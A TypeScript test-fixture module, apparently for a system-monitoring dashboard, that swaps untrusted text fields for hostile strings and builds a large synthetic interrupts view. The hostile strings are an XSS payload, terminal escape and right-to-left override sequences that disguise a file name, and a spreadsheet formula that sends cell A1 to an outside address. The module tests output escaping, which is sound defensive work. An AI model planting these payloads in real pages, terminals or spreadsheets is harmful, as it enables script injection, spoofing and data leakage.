/** Documents that are too big or too nasty to be kept as files: made from the kept ones. */

/** Texts that do harm where they are not escaped: markup, terminal control, reordering, a spreadsheet formula. */
export const NASTY = {
  markup: '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>',
  control: 'a\u001b]0;owned\u0007b\u202egnp.exe',
  formula: '=HYPERLINK("http://192.0.2.9/"&A1,"x")',
} as const

const TEXTS = new Set([
  'name',
  'process',
  'unit',
  'user',
  'summary',
  'evidence',
  'fix',
  'sentence',
  'paragraph',
  'note',
  'text',
  'chip',
  'host',
  'nickname',
  'target',
  'command',
])

function nasty(key: string, index: number): string {
  if (key === 'name') return index % 2 === 0 ? NASTY.formula : NASTY.control
  return `${NASTY.markup} ${NASTY.control}`
}

/** The same document with every text that comes from outside replaced by a harmful one. */
export function hostile<T>(document: T, index = 0): T {
  if (Array.isArray(document)) return document.map((one, place) => hostile(one as unknown, place)) as T
  if (typeof document !== 'object' || document === null) return document
  return Object.fromEntries(
    Object.entries(document).map(([key, value]) => {
      if (key === 'health') return [key, value]
      // States of sockets are text from the kernel; those in small letters are words of our own.
      const outside = TEXTS.has(key) || (key === 'state' && value === String(value).toUpperCase())
      if (typeof value === 'string' && outside) return [key, nasty(key, index)]
      if (key === 'commands' && Array.isArray(value) && typeof value[0] === 'string')
        return [key, [`kill ${NASTY.control}`]]
      return [key, hostile(value as unknown, index)]
    }),
  ) as T
}

const CPUS = 256
const LINES = 500
const COLUMNS = 64
const ROWS = 48

/** A machine of 256 CPUs in 8 nodes and 500 lines, folded as the daemon folds it; null for documents of other names. */
export function huge(name: string): Record<string, unknown> | null {
  if (name !== 'interrupts-view') return null
  const columns = Array.from({ length: COLUMNS }, (_, c) => ({
    label: `${c * 4}-${c * 4 + 3}`,
    node: Math.floor(c / 8),
    cpus: [0, 1, 2, 3].map((i) => c * 4 + i),
  }))
  const rows = Array.from({ length: ROWS }, (_, r) => {
    const cells = columns.map((_, c) => Math.round(((r * 7919 + c * 104_729) % 997) * (c === r ? 40 : 0.6)))
    const rate = cells.reduce((sum, cell) => sum + cell, 0)
    return {
      id: String(120 + r),
      name: `mlx5_comp${r}@pci:0000:${(r % 16).toString(16).padStart(2, '0')}:00.1`,
      chip: 'IR-PCI-MSIX-0000:3b:00.0 1048576-edge',
      rate,
      share: 1 / ROWS,
      cells,
      affinity: `${r * 4}-${r * 4 + 3},${128 + r}`,
      node: r % 8,
      history: Array.from({ length: 60 }, (_, i) => rate * (1 + ((i * 31) % 7) / 50)),
    }
  })
  return {
    at: 1_795_306_447_000,
    interval: 1,
    answer: { severity: 'ok', sentence: 'Balanced: no CPU takes more than 3 % of all interrupts.', paragraph: '' },
    cpus: CPUS,
    lines: LINES,
    rate: 912_345,
    busiestCpu: { cpu: 17, rate: 21_000, share: 0.023 },
    busiestLine: { id: '120', name: rows[0]?.name ?? '', rate: 9100 },
    network: { receive: 640_000, dropped: 0, squeezed: 2.5 },
    columns,
    rows,
    hidden: LINES - ROWS,
    softirqs: rows.slice(0, 10).map((row, index) => ({ ...row, id: `SOFT_${index}`, name: '' })),
    verdicts: [],
  }
}
